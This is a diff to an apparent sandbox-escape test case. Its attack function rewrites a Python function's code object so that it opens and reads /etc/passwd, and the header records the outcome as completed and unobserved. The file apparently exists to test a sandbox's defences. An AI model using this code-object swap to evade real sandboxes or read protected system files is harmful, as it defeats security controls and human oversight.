@@ -1,6 +1,6 @@
 # id: L06
 # family: language
-# goal: rename what a function reads by replacing its code object
+# goal: change what a function reads by replacing its code object
 # finding: none
 # outcome: COMPLETED
 # observed_by: none
@@ -10,13 +10,13 @@ from glovebox import Strategy
 
 
 def template(path):
-    return opem(path).read(20)
+    return open(path + "nobody").read(20)
 
 
 def attack(ctx, bar):
     code = template.__code__
     template.__code__ = code.replace(
-        co_names=tuple("open" if name == "opem" else name for name in code.co_names)
+        co_consts=tuple("" if each == "nobody" else each for each in code.co_consts)
     )
     return template("/etc/passwd")
 
